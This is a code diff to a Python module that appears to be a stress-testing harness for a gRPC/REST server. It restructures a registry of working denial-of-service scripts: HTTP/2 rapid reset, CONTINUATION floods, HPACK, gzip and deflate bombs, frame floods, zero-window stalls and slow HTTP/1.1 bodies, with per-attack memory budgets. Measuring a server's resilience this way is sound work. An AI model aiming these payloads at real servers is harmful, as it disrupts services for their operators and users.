@@ -9,11 +9,11 @@ import os
 import struct
 import zlib
 from collections.abc import Callable, Iterator, Mapping
-from typing import TypeAlias
+from functools import partial
+from typing import Any, TypeAlias
 
 import attrs
-
-from abusing.wire import (
+from peering.http2 import (
     END_HEADERS,
     END_STREAM,
     INITIAL_WINDOW_SIZE,
@@ -21,13 +21,15 @@ from abusing.wire import (
     LARGEST_WINDOW,
     PREFACE,
     Kind,
-    Target,
     block,
     frame,
+    grpc_message,
     reset,
     settings,
     window_update,
 )
+
+from abusing.wire import Target
 
 MEGABYTE = 10**6
 
@@ -39,14 +41,16 @@ ANSWERS = 16
 Batch: TypeAlias = tuple[bytes, int]
 """Bytes that are sent at once, and how many frames (or requests) they are."""
 
+Script: TypeAlias = Callable[[Target], Iterator[Batch]]
+"""What one connection sends."""
+
 
 @attrs.frozen(kw_only=True)
 class Attack:
     """What is done to a server, and what that may cost it."""
 
     name: str
-    script: Callable[[Target], Iterator[Batch]]
-    """What one connection sends."""
+    script: Script
     connections: int = 4
     """As many at the same time; one that ends is followed by another."""
     rest_after: float = math.inf
@@ -70,15 +74,74 @@ class Attack:
         return self.rest in (None, rest) and (self.text or not rest)
 
 
+ATTACKS: list[Attack] = []
+
+# A gRPC call whose head is too large takes up to 1.2 MB until it ends, and nothing that can be set
+# makes that less: 1,024 streams on each of 4 connections.
+_LARGE_HEADS = 4 * 1200 * MEGABYTE
+
+# A head that does not end is seen by nobody but gRPC, which keeps ten to twenty times as much:
+# nothing bounds it but the frames that are sent here.
+_ENDLESS_HEADS = 5000 * MEGABYTE
+
+# grpc copies each answer; REST sends what the API made.
+_LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
+_WINDOW_0: Mapping[str, Any] = {
+    "connections": 1,
+    "settings": {INITIAL_WINDOW_SIZE: 0},
+    "large_answers": True,
+    "memory_grpc": 2 * ANSWER * ANSWERS + 100 * MEGABYTE,
+}
+
+# What requests may have together.
+_BODIES = 2**31 + 100 * MEGABYTE
+
+# Seconds until one that has sent everything gives way to the next.
+_AT_ONCE = 0.05
+
+
+def attack(name: str, **how: Any) -> Callable[[Script], Script]:
+    """Add an attack with this script; `how` names fields of `Attack`."""
+
+    def add(script: Script) -> Script:
+        ATTACKS.append(Attack(name=name, script=script, **how))
+        return script
+
+    return add
+
+
+http1_attack = partial(attack, text=True, rest=True)
+
+
 def _streams() -> Iterator[int]:
     return itertools.count(1, 2)
 
 
+def _hpack_length(length: int) -> bytes:
+    # RFC 7541, 5.1: an integer with a prefix of 7 bits.
+    encoded, rest = bytearray([0x7F]), length - 0x7F
+    while rest > 0x7F:
+        encoded.append(rest & 0x7F | 0x80)
+        rest >>= 7
+    encoded.append(rest)
+    return bytes(encoded)
+
+
+def _flood(one: bytes, times: int) -> Iterator[Batch]:
+    return itertools.repeat((one * times, times))
+
+
+def _first_streams() -> range:
+    return range(1, 2 * ANSWERS, 2)
+
+
+@attack("none", connections=0, text=True)
 def nothing(_: Target) -> Iterator[Batch]:
     """No attack: what everything else is compared with."""
     yield from ()
 
 
+@attack("rapid reset")
 def rapid_reset(target: Target) -> Iterator[Batch]:
     """Calls that are held, each given up at once (CVE-2023-44487)."""
     streams = _streams()
@@ -92,38 +155,24 @@ def rapid_reset(target: Target) -> Iterator[Batch]:
         )
 
 
+@attack("endless headers", memory_grpc=250 * MEGABYTE)
 def endless_headers(target: Target) -> Iterator[Batch]:
     """A head that goes on in CONTINUATION frames without end (CVE-2024-27316)."""
     fields = block(target.fields("Ping"))
     yield frame(Kind.HEADERS, END_STREAM, 1, fields), 1
     more = frame(Kind.CONTINUATION, 0, 1, block([(b"x", bytes(1000))]))
-    while True:
-        yield more * 50, 50
+    yield from _flood(more, 50)
 
 
+@attack("CONTINUATION flood", memory_grpc=_ENDLESS_HEADS)
 def continued_headers(target: Target) -> Iterator[Batch]:
     """The same with as many fields in a frame as are let through; each grows tenfold."""
     yield frame(Kind.HEADERS, END_STREAM, 1, block(target.fields("Ping"))), 1
     more = frame(Kind.CONTINUATION, 0, 1, b"\0\x01x\x01y" * 430)
-    while True:
-        yield more * 20, 20
+    yield from _flood(more, 20)
 
 
-def compressed_bodies(target: Target) -> Iterator[Batch]:
-    """A body of 64 KB that unpacks to a thousand times as much, by each of gRPC's two methods."""
-    zeros = bytes(55 * 2**20)
-    bodies = {b"gzip": gzip.compress(zeros), b"deflate": zlib.compress(zeros)}
-    for number, (name, body) in zip(_streams(), bodies.items(), strict=False):
-        fields = block([*target.fields("PushTaskRes"), (b"grpc-encoding", name)])
-        message = struct.pack("!BI", 1, len(body)) + body
-        pieces = [
-            frame(Kind.DATA, 0, number, message[start : start + LARGEST_FRAME])
-            for start in range(0, len(message), LARGEST_FRAME)
-        ]
-        head = frame(Kind.HEADERS, END_HEADERS, number, fields)
-        yield head + b"".join(pieces) + frame(Kind.DATA, END_STREAM, number, b""), 2 + len(pieces)
-
-
+@attack("HPACK bomb", memory_grpc=_LARGE_HEADS)
 def compressed_headers(target: Target) -> Iterator[Batch]:
     """Heads of 16 KB that unpack to 64 MB: one field of 4 KB, named again and again."""
     known = block(target.fields("Ping"))
@@ -135,16 +184,7 @@ def compressed_headers(target: Target) -> Iterator[Batch]:
         yield first + frame(Kind.CONTINUATION, END_HEADERS, stream, again), 2
 
 
-def _hpack_length(length: int) -> bytes:
-    # RFC 7541, 5.1: an integer with a prefix of 7 bits.
-    encoded, rest = bytearray([0x7F]), length - 0x7F
-    while rest > 0x7F:
-        encoded.append(rest & 0x7F | 0x80)
-        rest >>= 7
-    encoded.append(rest)
-    return bytes(encoded)
-
-
+@attack("header field of 1 MB", memory_grpc=_LARGE_HEADS)
 def large_header(target: Target) -> Iterator[Batch]:
     """Heads with one field of 1 MB."""
     whole = block([*target.fields("Ping"), (b"x", bytes(MEGABYTE))])
@@ -156,6 +196,8 @@ def large_header(target: Target) -> Iterator[Batch]:
         yield b"".join(frames), len(frames)
 
 
+@attack("SETTINGS flood, reads nothing", reads=False)
+@attack("SETTINGS flood")
 def settings_flood(_: Target) -> Iterator[Batch]:
     """SETTINGS, each of which has to be acknowledged."""
     values = itertools.cycle([65_535, 65_534])
@@ -164,37 +206,14 @@ def settings_flood(_: Target) -> Iterator[Batch]:
         yield frames, 200
 
 
+@attack("PING flood, reads nothing", reads=False)
+@attack("PING flood")
 def ping_flood(_: Target) -> Iterator[Batch]:
     """PING, each of which has to be answered."""
-    while True:
-        yield frame(Kind.PING, 0, 0, b"pingping") * 200, 200
+    yield from _flood(frame(Kind.PING, 0, 0, b"pingping"), 200)
 
 
-def zero_window(target: Target) -> Iterator[Batch]:
-    """Pulls of large answers, with no room to send them into."""
-    calls = [target.call(stream, "PullTaskIns", target.pull) for stream in _first_streams()]
-    yield b"".join(calls), 2 * len(calls)
-
-
-def tiny_windows(target: Target) -> Iterator[Batch]:
-    """Pulls of large answers, let through byte by byte."""
-    yield from zero_window(target)
-    updates = [window_update(stream, 1) for stream in _first_streams()]
-    while True:
-        yield b"".join(updates), len(updates)
-
-
-def _first_streams() -> range:
-    return range(1, 2 * ANSWERS, 2)
-
-
-def empty_data(target: Target) -> Iterator[Batch]:
-    """A body of DATA frames with nothing in them (CVE-2019-9518)."""
-    yield frame(Kind.HEADERS, END_HEADERS, 1, block(target.fields("Ping"))), 1
-    while True:
-        yield frame(Kind.DATA, 0, 1, b"") * 200, 200
-
-
+@attack("PRIORITY flood")
 def priority_flood(_: Target) -> Iterator[Batch]:
     """PRIORITY, for streams that are and that are not, in ever new orders (CVE-2019-9513)."""
     for start in itertools.count(1, 400):
@@ -205,6 +224,30 @@ def priority_flood(_: Target) -> Iterator[Batch]:
         yield b"".join(frames), len(frames)
 
 
+@attack("empty DATA flood")
+def empty_data(target: Target) -> Iterator[Batch]:
+    """A body of DATA frames with nothing in them (CVE-2019-9518)."""
+    yield frame(Kind.HEADERS, END_HEADERS, 1, block(target.fields("Ping"))), 1
+    yield from _flood(frame(Kind.DATA, 0, 1, b""), 200)
+
+
+@attack(f"{ANSWERS} answers of 64 MB, window 0", **_WINDOW_0)
+def zero_window(target: Target) -> Iterator[Batch]:
+    """Pulls of large answers, with no room to send them into."""
+    calls = [target.call(stream, "PullTaskIns", target.pull) for stream in _first_streams()]
+    yield b"".join(calls), 2 * len(calls)
+
+
+@attack(f"{ANSWERS} answers of 64 MB, byte by byte", **_WINDOW_0)
+def tiny_windows(target: Target) -> Iterator[Batch]:
+    """Pulls of large answers, let through byte by byte."""
+    yield from zero_window(target)
+    updates = [window_update(stream, 1) for stream in _first_streams()]
+    while True:
+        yield b"".join(updates), len(updates)
+
+
+@attack("streams with half a request", settings={INITIAL_WINDOW_SIZE: LARGEST_WINDOW})
 def half_requests(target: Target) -> Iterator[Batch]:
     """Ever more calls whose bodies have begun and never end."""
     fields = block(target.fields("PushTaskRes"))
@@ -219,6 +262,23 @@ def half_requests(target: Target) -> Iterator[Batch]:
         yield b"".join(frames), 2 * len(frames)
 
 
+@attack("gzip and deflate bombs", connections=24, rest_after=1, rest=False)
+def compressed_bodies(target: Target) -> Iterator[Batch]:
+    """A body of 64 KB that unpacks to a thousand times as much, by each of gRPC's two methods."""
+    zeros = bytes(55 * 2**20)
+    bodies = {b"gzip": gzip.compress(zeros), b"deflate": zlib.compress(zeros)}
+    for number, (name, body) in zip(_streams(), bodies.items(), strict=False):
+        fields = block([*target.fields("PushTaskRes"), (b"grpc-encoding", name)])
+        message = grpc_message(body, compressed=True)
+        pieces = [
+            frame(Kind.DATA, 0, number, message[start : start + LARGEST_FRAME])
+            for start in range(0, len(message), LARGEST_FRAME)
+        ]
+        head = frame(Kind.HEADERS, END_HEADERS, number, fields)
+        yield head + b"".join(pieces) + frame(Kind.DATA, END_STREAM, number, b""), 2 + len(pieces)
+
+
+@attack("streams with a held pull")
 def held_pulls(target: Target) -> Iterator[Batch]:
     """Ever more pulls that are held."""
     streams = _streams()
@@ -230,11 +290,13 @@ def held_pulls(target: Target) -> Iterator[Batch]:
         yield b"".join(calls), 2 * len(calls)
 
 
+@attack("connections without a word", connections=500, text=True)
 def silence(_: Target) -> Iterator[Batch]:
     """Connections that say nothing."""
     yield from ()
 
 
+@attack("half a handshake", connections=500, text=True, handshake=False)
 def half_a_hello(target: Target) -> Iterator[Batch]:
     """Connections that begin with half of what comes first, and no more."""
     if target.tls is None:
@@ -243,12 +305,14 @@ def half_a_hello(target: Target) -> Iterator[Batch]:
         yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32), 1
 
 
+@attack("noise", text=True, handshake=False)
 def noise(_: Target) -> Iterator[Batch]:
     """Random bytes instead of a preface."""
     while True:
         yield os.urandom(1000), 1
 
 
+@attack("path or method not UTF-8", rest_after=_AT_ONCE)
 def strange_first_lines(target: Target) -> Iterator[Batch]:
     """Calls whose path or method is not ASCII, and not even UTF-8."""
     fields = dict(target.fields("Ping"))
@@ -257,6 +321,7 @@ def strange_first_lines(target: Target) -> Iterator[Batch]:
         yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1
 
 
+@http1_attack("WebSocket upgrade", rest_after=_AT_ONCE)
 def websocket_upgrade(_: Target) -> Iterator[Batch]:
     """An upgrade to WebSocket with a byte too many."""
     head = (
@@ -266,19 +331,7 @@ def websocket_upgrade(_: Target) -> Iterator[Batch]:
     yield head + b"x", 1
 
 
-def body_after_answer(target: Target) -> Iterator[Batch]:
-    """A body that goes on after its early answer."""
-    yield target.post("ping", 10**9), 1
-    for _ in range(50):
-        yield bytes(100), 1
-
-
-def connect_without_path(_: Target) -> Iterator[Batch]:
-    """CONNECT, which has no path."""
-    head = block([(b":method", b"CONNECT"), (b":authority", b"localhost")])
-    yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1
-
-
+@http1_attack("upgrade to HTTP/2", rest_after=_AT_ONCE)
 def upgrade_to_http2(_: Target) -> Iterator[Batch]:
     """An upgrade to HTTP/2 of a request whose path is not ASCII."""
     yield (
@@ -288,44 +341,28 @@ def upgrade_to_http2(_: Target) -> Iterator[Batch]:
     )
 
 
+@http1_attack("HTTP/2, unasked", rest_after=_AT_ONCE)
 def prior_knowledge(_: Target) -> Iterator[Batch]:
     """HTTP/2 without having asked for it."""
     yield PREFACE + settings({}) + frame(Kind.PING, 0, 0, b"pingping") * 50, 51
 
 
-def trickled_bodies(target: Target) -> Iterator[Batch]:
-    """Pushes of 512 MiB that have begun, and go on by 4 KB at a time."""
-    yield target.post("push-task-res", 512 * 2**20), 1
-    while True:
-        yield bytes(4096), 1
+@http1_attack("body after its answer", rest_after=_AT_ONCE)
+def body_after_answer(target: Target) -> Iterator[Batch]:
+    """A body that goes on after its early answer."""
+    yield target.post("ping", 10**9), 1
+    for _ in range(50):
+        yield bytes(100), 1
 
 
-def stalled_bodies(target: Target) -> Iterator[Batch]:
-    """Pushes of 512 MiB of which 40 MB come at once, and then no more."""
-    yield target.post("push-task-res", 512 * 2**20), 1
-    for _ in range(40):
-        yield bytes(MEGABYTE), 1
+@attack("CONNECT without a path", rest_after=_AT_ONCE)
+def connect_without_path(_: Target) -> Iterator[Batch]:
+    """CONNECT, which has no path."""
+    head = block([(b":method", b"CONNECT"), (b":authority", b"localhost")])
+    yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, head), 1
 
 
-def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
-    """A body whose every byte is a chunk."""
-    yield target.post("push-task-res", None), 1
-    while True:
-        yield b"1\r\nx\r\n" * 200, 200
-
-
-def unread_answers(target: Target) -> Iterator[Batch]:
-    """A pull of a large answer that nobody reads."""
-    yield target.post("pull-task-ins", len(target.pull)) + target.pull, 1
-
-
-def pipelined_pulls(target: Target) -> Iterator[Batch]:
-    """Pulls that are held, one behind the other."""
-    one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
-    while True:
-        yield one * 50, 50
-
-
+@http1_attack("HTTP/1.1 head without end")
 def http1_without_end(_: Target) -> Iterator[Batch]:
     """Header fields of HTTP/1.1 without end."""
     yield b"POST /api/v0/fleet/ping HTTP/1.1\r\nhost: x\r\n", 1
@@ -333,117 +370,43 @@ def http1_without_end(_: Target) -> Iterator[Batch]:
         yield b"x: " + b"y" * 200 + b"\r\n", 1
 
 
-# A gRPC call whose head is too large takes up to 1.2 MB until it ends, and nothing that can be set
-# makes that less: 1,024 streams on each of 4 connections.
-_LARGE_HEADS = 4 * 1200 * MEGABYTE
+@http1_attack("4 bodies in small pieces")
+def trickled_bodies(target: Target) -> Iterator[Batch]:
+    """Pushes of 512 MiB that have begun, and go on by 4 KB at a time."""
+    yield target.post("push-task-res", 512 * 2**20), 1
+    while True:
+        yield bytes(4096), 1
 
-# A head that does not end is seen by nobody but gRPC, which keeps ten to twenty times as much:
-# nothing bounds it but the frames that are sent here.
-_ENDLESS_HEADS = 5000 * MEGABYTE
 
-_ZERO = {INITIAL_WINDOW_SIZE: 0}
-# grpc copies each answer; REST sends what the API made.
-_LARGE = ANSWER * ANSWERS + 100 * MEGABYTE
-_LARGE_GRPC = 2 * ANSWER * ANSWERS + 100 * MEGABYTE
+@http1_attack("100 bodies that stall", connections=100, memory=_BODIES)
+def stalled_bodies(target: Target) -> Iterator[Batch]:
+    """Pushes of 512 MiB of which 40 MB come at once, and then no more."""
+    yield target.post("push-task-res", 512 * 2**20), 1
+    for _ in range(40):
+        yield bytes(MEGABYTE), 1
 
-# What requests may have together.
-_BODIES = 2**31 + 100 * MEGABYTE
 
-ATTACKS = (
-    Attack(name="none", script=nothing, connections=0, text=True),
-    Attack(name="rapid reset", script=rapid_reset),
-    Attack(name="endless headers", script=endless_headers, memory_grpc=250 * MEGABYTE),
-    Attack(name="CONTINUATION flood", script=continued_headers, memory_grpc=_ENDLESS_HEADS),
-    Attack(name="HPACK bomb", script=compressed_headers, memory_grpc=_LARGE_HEADS),
-    Attack(name="header field of 1 MB", script=large_header, memory_grpc=_LARGE_HEADS),
-    Attack(name="SETTINGS flood", script=settings_flood),
-    Attack(name="SETTINGS flood, reads nothing", script=settings_flood, reads=False),
-    Attack(name="PING flood", script=ping_flood),
-    Attack(name="PING flood, reads nothing", script=ping_flood, reads=False),
-    Attack(name="PRIORITY flood", script=priority_flood),
-    Attack(name="empty DATA flood", script=empty_data),
-    Attack(
-        name=f"{ANSWERS} answers of 64 MB, window 0",
-        script=zero_window,
-        connections=1,
-        settings=_ZERO,
-        large_answers=True,
-        memory=_LARGE,
-        memory_grpc=_LARGE_GRPC,
-    ),
-    Attack(
-        name=f"{ANSWERS} answers of 64 MB, byte by byte",
-        script=tiny_windows,
-        connections=1,
-        settings=_ZERO,
-        large_answers=True,
-        memory=_LARGE,
-        memory_grpc=_LARGE_GRPC,
-    ),
-    Attack(
-        name="streams with half a request",
-        script=half_requests,
-        settings={INITIAL_WINDOW_SIZE: LARGEST_WINDOW},
-    ),
-    Attack(
-        name="gzip and deflate bombs",
-        script=compressed_bodies,
-        connections=24,
-        rest_after=1,
-        rest=False,
-    ),
-    Attack(name="streams with a held pull", script=held_pulls),
-    Attack(name="connections without a word", script=silence, connections=500, text=True),
-    Attack(
-        name="half a handshake",
-        script=half_a_hello,
-        connections=500,
-        text=True,
-        handshake=False,
-    ),
-    Attack(name="noise", script=noise, text=True, handshake=False),
-    Attack(name="path or method not UTF-8", script=strange_first_lines, rest_after=0.05),
-    Attack(
-        name="WebSocket upgrade", script=websocket_upgrade, rest_after=0.05, text=True, rest=True
-    ),
-    Attack(
-        name="upgrade to HTTP/2", script=upgrade_to_http2, rest_after=0.05, text=True, rest=True
-    ),
-    Attack(
-        name="HTTP/2, unasked",
-        script=prior_knowledge,
-        rest_after=0.05,
-        text=True,
-        rest=True,
-    ),
-    Attack(
-        name="body after its answer",
-        script=body_after_answer,
-        rest_after=0.05,
-        text=True,
-        rest=True,
-    ),
-    Attack(name="CONNECT without a path", script=connect_without_path, rest_after=0.05),
-    Attack(name="HTTP/1.1 head without end", script=http1_without_end, text=True, rest=True),
-    Attack(name="4 bodies in small pieces", script=trickled_bodies, text=True, rest=True),
-    Attack(
-        name="100 bodies that stall",
-        script=stalled_bodies,
-        connections=100,
-        text=True,
-        rest=True,
-        memory=_BODIES,
-    ),
-    Attack(name="chunks of one byte", script=chunks_of_one_byte, text=True, rest=True),
-    Attack(
-        name=f"{ANSWERS} answers of 64 MB that nobody reads",
-        script=unread_answers,
-        connections=ANSWERS,
-        reads=False,
-        text=True,
-        large_answers=True,
-        rest=True,
-        memory=_LARGE,
-    ),
-    Attack(name="pulls behind a held pull", script=pipelined_pulls, text=True, rest=True),
+@http1_attack("chunks of one byte")
+def chunks_of_one_byte(target: Target) -> Iterator[Batch]:
+    """A body whose every byte is a chunk."""
+    yield target.post("push-task-res", None), 1
+    yield from _flood(b"1\r\nx\r\n", 200)
+
+
+@http1_attack(
+    f"{ANSWERS} answers of 64 MB that nobody reads",
+    connections=ANSWERS,
+    reads=False,
+    large_answers=True,
+    memory=_LARGE,
 )
+def unread_answers(target: Target) -> Iterator[Batch]:
+    """A pull of a large answer that nobody reads."""
+    yield target.post("pull-task-ins", len(target.pull)) + target.pull, 1
+
+
+@http1_attack("pulls behind a held pull")
+def pipelined_pulls(target: Target) -> Iterator[Batch]:
+    """Pulls that are held, one behind the other."""
+    one = target.post("pull-task-ins", len(target.idle_pull)) + target.idle_pull
+    yield from _flood(one, 50)
